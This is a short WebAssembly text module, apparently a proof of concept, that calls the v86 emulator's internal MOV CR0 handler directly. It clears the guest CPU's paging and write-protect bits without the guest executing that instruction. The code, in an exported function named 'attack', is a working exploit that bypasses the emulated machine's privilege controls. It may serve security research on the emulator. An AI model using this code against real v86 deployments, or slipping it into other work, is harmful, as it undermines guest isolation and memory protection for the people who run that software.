;; v86's own MOV CR0, called while the guest executes no such instruction: paging and write protection go.
(import "v86" "memory" (memory 1))
(import "v86" "instr_0F22" (func $mov (param i32 i32)))

(func $attack (export "attack")
  (local $cpl i32) (local $ecx i32)
  (local.set $ecx (i32.load (i32.const 68)))
  (i32.store (i32.const 68) (i32.and (i32.load (i32.const 580)) (i32.const 0x7ffeffff)))
  (call $mov (i32.const 1) (i32.const 0))
  (i32.store (i32.const 68) (local.get $ecx)))
